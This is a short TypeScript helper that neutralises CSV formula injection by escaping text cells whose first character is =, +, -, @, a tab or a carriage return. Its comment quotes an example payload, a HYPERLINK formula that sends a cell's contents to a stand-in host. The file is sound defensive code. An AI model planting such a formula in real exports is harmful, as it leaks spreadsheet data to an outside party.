// CSV formula injection (OWASP "CSV Injection"): a spreadsheet runs a text cell that starts with =, +, -, @, a tab or a
// carriage return as a formula (`=HYPERLINK("http://x.example/?leak="&A1,"…")`). Every text cell of every CSV we write
// (exports, rejected-row reports) goes through here; numbers are written as numbers and never pass through it.
const FORMULA_START = /^[=+\-@\t\r]/

/** A text value made safe for a spreadsheet: a leading formula character is escaped with a single quote. */
export function neutraliseFormula (text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}
